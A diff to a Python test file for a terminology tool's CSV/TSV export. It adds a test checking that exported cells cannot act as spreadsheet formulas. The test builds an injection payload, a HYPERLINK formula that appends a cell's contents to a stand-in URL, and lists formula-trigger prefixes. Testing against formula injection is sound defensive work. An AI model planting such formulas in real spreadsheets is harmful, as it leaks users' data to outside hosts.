@@ -1,6 +1,8 @@
 """TBX, CSV and TSV in and out; malformed and hostile files."""
 
+import csv
 import dataclasses
+import io
 
 import pytest
 from hypothesis import given, settings
@@ -163,3 +165,17 @@ def test_a_table_in_another_charset_is_read():
     text = "simplified\tpreferred\n劝返警侨服务站联防边境管理\tx\n"
     (concept,) = files.read(text.encode("gb18030"), ".tsv").concepts
     assert concept.simplified.startswith("劝返")
+
+
+@pytest.mark.parametrize("suffix", [".csv", ".tsv"])
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "＝", "'=", "''+"])
+def test_no_cell_is_a_formula_in_a_spreadsheet_program(suffix, start):
+    """Terms may be taken from evidence; the apostrophe goes again when the file is read back."""
+    attack = f'{start}HYPERLINK("http://canary.invalid/"&A1)'
+    own = Concept("n1", (Term("渡口", HANS), Term(attack, ENGLISH)), note=attack)
+    written = files.write([own], suffix, title="t")
+    table = csv.reader(io.StringIO(written.decode("utf-8-sig")), delimiter="\t" if suffix == ".tsv" else ",")
+    cells = [cell for row in table for cell in row]
+    assert not [cell for cell in cells if cell.startswith(tuple("=+-@＝＋－＠\t\r"))]
+    (back,) = files.read(written, suffix).concepts
+    assert (back.preferred, back.note) == (attack, attack)
